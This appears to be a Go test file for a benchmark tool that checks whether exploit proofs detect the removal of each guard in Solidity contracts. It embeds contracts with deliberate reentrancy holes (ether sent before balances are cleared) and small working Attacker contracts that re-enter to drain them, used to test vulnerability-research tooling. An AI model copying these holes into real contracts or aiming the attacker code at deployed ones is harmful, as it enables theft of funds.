package adequacy_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"assay/internal/bench"
	"assay/internal/core/suite"
	"assay/internal/core/suite/evidence"
	"assay/internal/proof/adequacy"
	"assay/internal/test/corpustest"
	"assay/internal/test/solctest"
	"assay/suites"
)

// A jar with a guard of each form. Its proof sees to some of them.
const jar = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
contract Jar {
    address public keeper = msg.sender;
    address public helper;
    bool public shut;
    mapping(address => uint256) public kept;
    mapping(bytes4 => bool) public seen;
    error Refused();
    modifier byKeeper() virtual {
        require(msg.sender == keeper, "not the keeper");
        _;
    }
    function close() external byKeeper { shut = true; }
    function open() external byKeeper { shut = false; }
    function appoint(address helper_) external {
        _check();
        if (helper_ == address(0) || helper_ == keeper) { revert Refused(); }
        helper = helper_;
    }
    function _check() internal view {
        if (msg.sender != keeper && msg.sender != helper) revert Refused();
    }
    function put() external payable {
        require(!shut && msg.value > 0, "shut");
        bool small = msg.value < 100 ether;
        assembly { if iszero(small) { revert(0, 0) } }
        kept[msg.sender] += msg.value;
    }
    function take() external {
        uint256 amount = kept[msg.sender];
        (bool paid, ) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        kept[msg.sender] = 0;
    }
    function touch(address token) external {
        (bool done, ) = token.call("");
        if (!done) { assembly { revert(0, 0) } }
        seen[msg.sig] = true;
    }
}
`

const jarProof = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
import "./Jar.sol";
interface Vm { function deal(address who, uint256 wei_) external; function prank(address who) external; function expectRevert() external; }
contract Attacker {
    Jar internal jar;
    constructor(Jar jar_) payable { jar = jar_; }
    function run() external { jar.put{value: 1 ether}(); jar.take(); }
    receive() external payable { if (address(jar).balance >= 1 ether) jar.take(); }
}
contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant STRANGER = address(0xBEE);
    Jar internal jar;
    Attacker internal thief;
    function setUp() public {
        vm.deal(address(this), 300 ether);
        jar = new Jar();
        jar.put{value: 10 ether}();
        thief = new Attacker{value: 1 ether}(jar);
    }
    function test_Regular() public {
        jar.close();
        jar.open();
        jar.appoint(address(0xADA));
        jar.touch(address(0xADA));
        jar.take();
    }
    function test_RefusesStrangers() public {
        vm.prank(STRANGER);
        vm.expectRevert();
        jar.close();
        vm.prank(STRANGER);
        vm.expectRevert();
        jar.appoint(address(0xADA));
    }
    function test_RefusesNothing() public {
        vm.expectRevert();
        jar.appoint(address(0));
        vm.expectRevert();
        jar.put{value: 0}();
        vm.expectRevert();
        jar.put{value: 100 ether}();
    }
    function exploit() public { thief.run(); }
    function test_Exploit() public { exploit(); }
    function target() public view returns (address) { return address(jar); }
    function attacker() public view returns (address) { return address(thief); }
    receive() external payable {}
}
`

func jarSample(proofText string) suite.Executable {
	twin := strings.Replace(strings.Replace(jar, "        kept[msg.sender] = 0;\n", "", 1), "[msg.sender];\n",
		"[msg.sender];\n        kept[msg.sender] = 0;\n", 1)
	return suite.Executable{ID: "ds/jar", Main: "Jar.sol",
		Vulnerable: map[string]string{"Jar.sol": jar, "Proof.sol": proofText},
		Fixed:      map[string]string{"Jar.sol": twin, "Proof.sol": proofText},
		Rules: evidence.Rules{Compiler: "0.8.30", Contract: "Jar", Impact: "ether_gained", Minimum: "5000000000000000000",
			CapitalWei: "1000000000000000000"}}
}

// Each guard is taken away, whole and by its operands, a modifier's for each
// function that applies it; what no check looks at is found.
func TestSolidity(t *testing.T) {
	t.Parallel()
	c := solctest.New(t)
	a, err := adequacy.Solidity(t.Context(), c, jarSample(jarProof))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]evidence.Guard{}
	for _, g := range a.Guards {
		got[g.Name()] = g
	}
	for _, want := range []struct {
		name            string
		caller, noticed bool
	}{
		{"Jar.close, byKeeper: msg.sender == keeper", true, true},
		{"Jar.open, byKeeper: msg.sender == keeper", true, false}, // nobody tries
		{"Jar.appoint: _check()", true, true},
		{"Jar._check: msg.sender != keeper && msg.sender != helper", true, true},
		{"Jar._check: msg.sender != keeper", true, true},
		{"Jar._check: msg.sender != helper", true, false}, // no helper tries
		{"Jar.appoint: helper_ == address(0) || helper_ == keeper", false, true},
		{"Jar.appoint: helper_ == address(0)", false, true},
		{"Jar.appoint: helper_ == keeper", false, false},
		{"Jar.put: !shut && msg.value > 0", false, true},
		{"Jar.put: !shut", false, false},
		{"Jar.put: msg.value > 0", false, true},
		{"Jar.put: iszero(small)", false, true},
		{"Jar.take: paid", false, false},
		{"Jar.touch: !done", false, false},
	} {
		g, ok := got[want.name]
		if !ok || g.Caller != want.caller || g.Noticed != "" != want.noticed {
			t.Errorf("%s: found %v, %+v", want.name, ok, g)
		}
		delete(got, want.name)
	}
	if len(got) > 0 {
		t.Errorf("more guards than there are: %v", got)
	}
	if g := a.Guards[0]; g.In != "Jar.close, byKeeper" || g.Vulnerable != 11 || g.Fixed != 11 ||
		!strings.Contains(g.Noticed, "test_RefusesStrangers") {
		t.Errorf("the first guard is %+v", g)
	}

	_, err = adequacy.Solidity(t.Context(), c, jarSample(strings.Replace(jarProof,
		"vm.expectRevert();\n        jar.close();", "jar.close();", 1)))
	if err == nil || !strings.Contains(err.Error(), "the proof fails before any deletion") {
		t.Errorf("a proof that fails as it is: %v", err)
	}
	b, err := a.Encode()
	if err != nil {
		t.Fatal(err)
	}
	again, err := evidence.DecodeAdequacy(b)
	if err != nil || len(again.Guards) != len(a.Guards) || again.Guards[1] != a.Guards[1] {
		t.Errorf("read again: %v, %+v", err, again)
	}
	x := jarSample(jarProof)
	if why := again.Stale(x.Rules, x.Files()); why != "" {
		t.Errorf("stale at once: %s", why)
	}
	x.Vulnerable["Proof.sol"] += "// more"
	if why := again.Stale(x.Rules, x.Files()); why != "Proof.sol changed" {
		t.Errorf("of another proof: %q", why)
	}
}

// A modifier that another file declares is a guard of each function that applies it, in
// functions with and without results, beside modifiers of the file itself.
func TestModifierElsewhere(t *testing.T) {
	t.Parallel()
	const owned = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
abstract contract Owned {
    address public owner = msg.sender;
    uint256 private entered;
    modifier onlyOwner() { require(msg.sender == owner, "not the owner"); _; }
    modifier once() { require(entered == 0, "entered"); entered = 1; _; entered = 0; }
    function pass(address to) external onlyOwner { require(to != address(0), "no owner"); owner = to; }
}
`
	till := `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
import "./context/Owned.sol";
contract Till is Owned {
    bool public open;
    mapping(address => uint256) public kept;
    modifier whenOpen() { require(open, "shut"); _; }
    function set(bool open_) external onlyOwner { open = open_; }
    function sweep(address payable to, uint256) external virtual onlyOwner whenOpen returns (uint256 amount) {
        amount = 1 wei;
        to.transfer(amount);
    }
    function put() external payable once whenOpen { kept[msg.sender] += msg.value; }
    function take() public once {
        uint256 amount = kept[msg.sender];
        require(amount > 0, "nothing");
        (bool paid, ) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        kept[msg.sender] = 0;
    }
    function giveBack() external {
        uint256 amount = kept[msg.sender];
        (bool paid, ) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        kept[msg.sender] = 0;
    }
}
`
	twin := till[:strings.Index(till, "function giveBack")] + strings.Replace(strings.Replace(
		till[strings.Index(till, "function giveBack"):], "        kept[msg.sender] = 0;\n", "", 1), "[msg.sender];\n",
		"[msg.sender];\n        kept[msg.sender] = 0;\n", 1)
	const tillProof = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
import "./Till.sol";
interface Vm { function deal(address who, uint256 wei_) external; function prank(address who) external; function expectRevert(bytes calldata why) external; }
contract Attacker {
    Till internal till;
    constructor(Till till_) payable { till = till_; }
    function run() external { till.put{value: 1 ether}(); till.giveBack(); }
    receive() external payable { if (address(till).balance >= 1 ether) till.giveBack(); }
}
contract Again {
    function run(Till till) external payable { till.put{value: msg.value}(); till.take(); }
    bool internal met;
    receive() external payable { if (!met) { met = true; Till(msg.sender).take(); } }
}
contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    Till internal till;
    Attacker internal thief;
    function setUp() public {
        vm.deal(address(this), 300 ether);
        till = new Till();
        till.set(true);
        till.put{value: 10 ether}();
        thief = new Attacker{value: 1 ether}(till);
    }
    function test_Regular() public {
        require(till.sweep(payable(address(0xADA)), 0) == 1, "swept");
        till.put{value: 1 ether}();
        vm.deal(address(till), 11 ether);
        till.take();
        till.giveBack();
        till.pass(address(this));
    }
    function test_RefusesStrangers() public {
        vm.prank(address(0xBEE));
        vm.expectRevert(bytes("not the owner"));
        till.set(false);
        vm.expectRevert(bytes("no owner"));
        till.pass(address(0));
    }
    function test_RefusesAgain() public {
        Again again = new Again();
        vm.expectRevert(bytes("not paid"));
        again.run{value: 1 ether}(till);
    }
    function test_RefusesNothing() public {
        till.take();
        vm.expectRevert(bytes("nothing"));
        till.take();
        till.set(false);
        vm.expectRevert(bytes("shut"));
        till.put{value: 1}();
    }
    function exploit() public { thief.run(); }
    function test_Exploit() public { exploit(); }
    function target() public view returns (address) { return address(till); }
    function attacker() public view returns (address) { return address(thief); }
    receive() external payable {}
}
`
	files := func(main string) map[string]string {
		return map[string]string{"Till.sol": main, "context/Owned.sol": owned, "Proof.sol": tillProof}
	}
	a, err := adequacy.Solidity(t.Context(), solctest.New(t), suite.Executable{ID: "ds/till", Main: "Till.sol",
		Vulnerable: files(till), Fixed: files(twin),
		Rules: evidence.Rules{Compiler: "0.8.30", Contract: "Till", Impact: "ether_gained", Minimum: "5000000000000000000", CapitalWei: "1000000000000000000"}})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]evidence.Guard{}
	for _, g := range a.Guards {
		got[g.Name()] = g
	}
	for name, want := range map[string]struct {
		caller, noticed bool
		file            string
	}{
		"Till.set: onlyOwner":                        {true, true, ""},
		"Till.sweep: onlyOwner":                      {true, false, ""}, // nobody tries
		"Till.sweep, whenOpen: open":                 {false, false, ""},
		"Till.put: once":                             {false, false, ""},
		"Till.put, whenOpen: open":                   {false, true, ""},
		"Till.take: once":                            {false, true, ""},
		"Till.take: amount > 0":                      {false, true, ""},
		"Till.giveBack: paid":                        {false, false, ""},
		"Till.take: paid":                            {false, true, ""},
		"Owned.pass, onlyOwner: msg.sender == owner": {true, false, "context/Owned.sol"},
		"Owned.pass: to != address(0)":               {false, true, "context/Owned.sol"},
	} {
		g, ok := got[name]
		if !ok || g.Caller != want.caller || (g.Noticed != "") != want.noticed || g.Vulnerable == 0 || g.File != want.file {
			t.Errorf("%s: there is one: %t; %+v", name, ok, g)
		}
	}
	if len(got) != 11 {
		t.Errorf("%d guards: %v", len(got), got)
	}
}

// A condition of an old compiler's text may throw.
func TestThrow(t *testing.T) {
	t.Parallel()
	old := func(text string) string {
		for _, p := range [][2]string{{"0.8.30", "0.4.26"}, {"(bool paid, ) = msg.sender.call{value: amount}(\"\");\n      " +
			"  require(paid, \"not paid\");", "if (!msg.sender.call.value(amount)()) throw;"}} {
			text = strings.ReplaceAll(text, p[0], p[1])
		}
		return text
	}
	small := `pragma solidity 0.4.26;
contract Jar {
    mapping(address => uint256) public kept;
    address public keeper = msg.sender;
    modifier byKeeper { if (msg.sender != keeper) throw; _; }
    function put() payable { kept[msg.sender] += msg.value; }
    function hand(address keeper_) byKeeper { if (keeper_ == 0) { throw; } keeper = keeper_; }
    function take() {
        uint256 amount = kept[msg.sender];
        (bool paid, ) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        kept[msg.sender] = 0;
    }
}
`
	proofText := `pragma solidity 0.4.26;
import "./Jar.sol";
contract Attacker {
    Jar jar;
    function Attacker(Jar jar_) payable { jar = jar_; }
    function run() { jar.put.value(1 ether)(); jar.take(); }
    function () payable { if (jar.balance >= 1 ether) jar.take(); }
}
contract Vm { function deal(address who, uint256 wei_); function prank(address who); }
contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    Jar jar;
    Attacker thief;
    function setUp() {
        vm.deal(this, 11 ether);
        jar = new Jar();
        jar.put.value(10 ether)();
        thief = (new Attacker).value(1 ether)(jar);
    }
    function test_Regular() { jar.hand(this); jar.take(); }
    function test_RefusesStrangers() {
        vm.prank(0xBEE);
        if (jar.call(bytes4(sha3("hand(address)")), 0xBEE)) throw;
    }
    function exploit() { thief.run(); }
    function test_Exploit() { exploit(); }
    function target() constant returns (address) { return jar; }
    function attacker() constant returns (address) { return thief; }
    function () payable {}
}
`
	twin := strings.Replace(strings.Replace(small, "        kept[msg.sender] = 0;\n", "", 1),
		"[msg.sender];\n        (bool", "[msg.sender];\n        kept[msg.sender] = 0;\n        (bool", 1)
	x := jarSample("")
	x.Rules.Compiler = "0.4.26"
	x.Vulnerable = map[string]string{"Jar.sol": old(small), "Proof.sol": proofText}
	x.Fixed = map[string]string{"Jar.sol": old(twin), "Proof.sol": proofText}
	a, err := adequacy.Solidity(t.Context(), solctest.New(t), x)
	if err != nil {
		t.Fatal(err)
	}
	noticed := map[string]bool{}
	for _, g := range a.Guards {
		noticed[g.Name()] = g.Noticed != ""
	}
	if len(noticed) != 3 || !noticed["Jar.hand, byKeeper: msg.sender != keeper"] || noticed["Jar.hand: keeper_ == 0"] ||
		noticed["Jar.take: !msg.sender.call.value(amount)()"] {
		t.Errorf("guards %v", noticed)
	}
}

// What a sample says of its survivors is held to what was found.
func TestJudge(t *testing.T) {
	t.Parallel()
	s := suite.Sample{ID: "ds/jar", Keys: []string{"k"}, Meta: &suite.Meta{Main: "Jar.sol",
		Equivalent: map[string]suite.Harmless{
			"Jar.put: a > 0":           {Because: "nothing is kept", Input: "put(0)"},
			"Jar.put: msg.sender == k": {Because: "no reason", Input: "put(1)"},
			"Jar.put: gone":            {Because: "it was there", Input: "put(2)"},
		}}}
	st := &suite.Suite{Variants: []bench.Variant{{Key: "k", Source: "Jar.sol", Labels: []bench.Label{
		{Function: bench.Benign, Span: bench.Span{Line: 3, EndLine: 3}},
		{Function: bench.InsuffGuard, Span: bench.Span{Line: 5, EndLine: 5}},
		{Function: bench.Benign, Span: bench.Span{Line: 6, EndLine: 6}},
		{Function: bench.Benign, Span: bench.Span{Line: 60, EndLine: 60}}}}}}
	r := adequacy.Judge(st, &s, &evidence.Adequacy{Guards: []evidence.Guard{
		{In: "Jar.put", Without: "a > 0", Vulnerable: 3},
		{In: "Jar.put", Without: "msg.sender == k", Vulnerable: 4, Caller: true},
		{In: "Jar.put", Without: "b", Vulnerable: 5},
		{In: "Jar.put", Without: "c", Vulnerable: 6, Noticed: "regular"},
		{In: "Jar.put", Without: "d", Fixed: 7},
		{File: "context/Lid.sol", In: "Lid.turn", Without: "e", Vulnerable: 60, Fixed: 60},
	}})
	for i, want := range []adequacy.Verdict{adequacy.Equivalent, adequacy.Survived, adequacy.Survived, adequacy.Noticed,
		adequacy.Survived, adequacy.Survived} {
		if r.Deletions[i].Verdict != want {
			t.Errorf("%v is %s, want %s", &r.Deletions[i], r.Deletions[i].Verdict, want)
		}
	}
	if r.Deletions[4].Text != "fixed/Jar.sol" || r.Deletions[4].Line != 7 {
		t.Errorf("what only the twin has stands at %v", &r.Deletions[4])
	}
	if r.Deletions[5].Text != "context/Lid.sol" {
		t.Errorf("what the context has stands at %v", &r.Deletions[5])
	}
	got := strings.Join(r.Problems, "\n")
	for _, want := range []string{"equivalent: Jar.put: gone: the proof detects its deletion, or the guard does not exist",
		"line 3 has the label BENIGN", "line 5 has the label INSUFF_GUARD"} {
		if !strings.Contains(got, want) {
			t.Errorf("problems %s\nwant %s", got, want)
		}
	}
	if len(r.Problems) != 3 {
		t.Errorf("problems %q", r.Problems)
	}
}

// The results stored with the embedded samples are those for the present texts.
func TestEmbeddedSolidity(t *testing.T) {
	if testing.Short() {
		t.Skip("executes some hundred proofs")
	}
	c := solctest.New(t)
	list, problems, err := suite.Load(suites.FS, suite.Blockbench, "", "suites/blockbench")
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	st := list[0]
	takes := corpustest.Every(t, 45)
	for i := range st.Samples {
		s := &st.Samples[i]
		x, ok := st.Executable(s)
		if !ok {
			continue
		}
		if s.Adequacy == nil {
			t.Errorf("%s: nothing is stored for these texts; go run ./cmd/assay verify --adequacy "+
				"--suite suites/blockbench --write", s.ID)
			continue
		}
		if !takes(i) {
			continue
		}
		t.Run(s.ID, func(t *testing.T) {
			t.Parallel()
			now, err := adequacy.Solidity(t.Context(), c, x)
			if err != nil {
				t.Fatal(err)
			}
			if got, want := verdicts(now), verdicts(s.Adequacy); !slices.Equal(got, want) {
				t.Errorf("the stored result is another one:\n%s\nis stored, now it is\n%s\nremove the sample's adequacy.json; "+
					"go run ./cmd/assay verify --adequacy --suite suites/blockbench --write",
					strings.Join(want, "\n"), strings.Join(got, "\n"))
			}
		})
	}
}

// verdicts is a result without the messages, whose words may change while stored results stay true.
func verdicts(a *evidence.Adequacy) (out []string) {
	for _, g := range a.Guards {
		detected := "detected"
		if g.Noticed == "" {
			detected = "undetected"
		}
		g.Noticed = ""
		out = append(out, fmt.Sprintf("%s: %+v", detected, g))
	}
	return out
}

// Every proof notices the loss of every guard, or its sample names the guard with the reason. This holds what is
// stored to that, and executes nothing.
func TestEmbeddedGuards(t *testing.T) {
	list, problems, err := suite.Load(suites.FS, suite.Blockbench, "", "suites/blockbench")
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	st := list[0]
	for i := range st.Samples {
		s := &st.Samples[i]
		if _, ok := st.Executable(s); !ok {
			continue
		}
		if s.Adequacy == nil {
			t.Errorf("%s: nothing is stored for these texts; go run ./cmd/assay verify --adequacy "+
				"--suite suites/blockbench --write", s.ID)
			continue
		}
		r := adequacy.Judge(st, s, s.Adequacy)
		for k := range r.Deletions {
			if d := &r.Deletions[k]; d.Verdict == adequacy.Survived {
				t.Error(d)
			}
		}
		for _, p := range r.Problems {
			t.Error(p)
		}
	}
}
